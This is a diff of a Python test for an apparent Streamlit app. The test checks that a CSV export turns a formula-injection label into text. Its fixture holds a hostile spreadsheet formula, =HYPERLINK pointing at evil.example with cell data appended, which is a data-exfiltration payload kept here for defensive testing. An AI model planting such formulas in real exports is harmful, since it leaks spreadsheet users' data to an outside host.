@@ -370,22 +370,21 @@ def test_indicator_library_offers_what_suits_the_box_first(walking_app):
     assert offered[1].removeprefix("⚠ code not confirmed · ").startswith("Emergency hospital admissions due to falls")
 
 
-def test_all_boxes_csv_download_writes_formulas_as_text():
+def test_all_boxes_csv_download_writes_formulas_as_text(deferred_downloads):
     """A label such as =HYPERLINK(...) downloads as text a spreadsheet shows, never runs; counts stay numbers."""
-    from streamlit.runtime.memory_media_file_storage import _calculate_file_id
-
     hostile = '=HYPERLINK("https://evil.example/?d="&A1,"Report")'
     data = minimal(
         [node("walk", label=hostile), node("fit", "strategic", label="-Fitter, @home")], [link("walk", "fit")]
     )
-    at = open_page("build", from_data(data))
+    open_page("build", from_data(data))
     expected = (
         "\ufeffBox,Level,Stakeholders,Indicators,Links in,Links out,Id\r\n"
         '"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Report"")",Activities,,0,0,1,walk\r\n'
         '"\'-Fitter, @home",Strategic outcomes,,0,1,0,fit\r\n'
     ).encode()
-    [download] = [b for b in at.get("download_button") if b.proto.id.endswith("download_boxes_csv")]
-    assert _calculate_file_id(expected, "text/csv", "test-boxes.csv") in download.proto.url
+    download = deferred_downloads["download_boxes_csv"]
+    assert (download.file_name, download.mime) == ("test-boxes.csv", "text/csv")
+    assert download() == expected
 
 
 def test_a_typed_control_character_is_refused_saying_where():
